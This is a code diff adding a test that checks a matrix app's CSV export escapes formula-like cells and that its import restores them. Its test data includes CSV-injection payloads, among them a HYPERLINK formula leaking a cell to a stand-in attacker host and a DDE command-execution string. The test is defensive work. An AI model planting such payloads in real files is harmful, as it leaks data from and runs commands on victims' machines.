@@ -47,3 +47,29 @@ def test_loose_bounds_and_small_problems_are_still_answered(anonymous):
 
     assert response.status_code == 200, response.text[:200]
     assert response.json()["samples"] == 10_000
+
+
+# Files: CSV injection -------------------------------------------------------------------
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A2,"Click for details")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
+
+
+def test_csv_export_writes_formula_like_names_as_text_and_imports_them_back_unchanged(client, make_matrix):
+    """A public or shared matrix is someone else's text: opened in a spreadsheet, a CSV cell starting with
+    = + - @ runs as a formula. The apostrophe makes it text there, and the import takes it off again."""
+    options = [{"name": name} for name in [*FORMULA_NAMES, "'=already quoted", "'plain"]]
+    criteria = [{"name": "=1+1", "short_name": "@x", "scale_low_label": "-low", "scale_min": -5, "scale_max": 5}]
+    matrix = make_matrix(options=options, criteria=criteria)
+
+    csv_text = client.get(f"/api/v1/matrices/{matrix['id']}/export?format=csv").content.decode("utf-8-sig")
+
+    cells = [cell for line in csv_text.splitlines() for cell in line.split(",")]
+    assert not [cell for cell in cells if cell.lstrip('"').startswith(("=", "+", "@"))], csv_text
+    assert "scale_min,-5" in csv_text  # numbers are numbers, not formulas
+    imported = client.post(
+        "/api/v1/matrices/import", files={"file": ("back.csv", csv_text.encode("utf-8"), "text/csv")}
+    )
+    assert imported.status_code == 201, imported.text
+    assert [o["name"] for o in imported.json()["options"]] == [o["name"] for o in options]
+    (criterion,) = imported.json()["criteria"]
+    assert (criterion["name"], criterion["short_name"], criterion["scale_low_label"]) == ("=1+1", "@x", "-low")
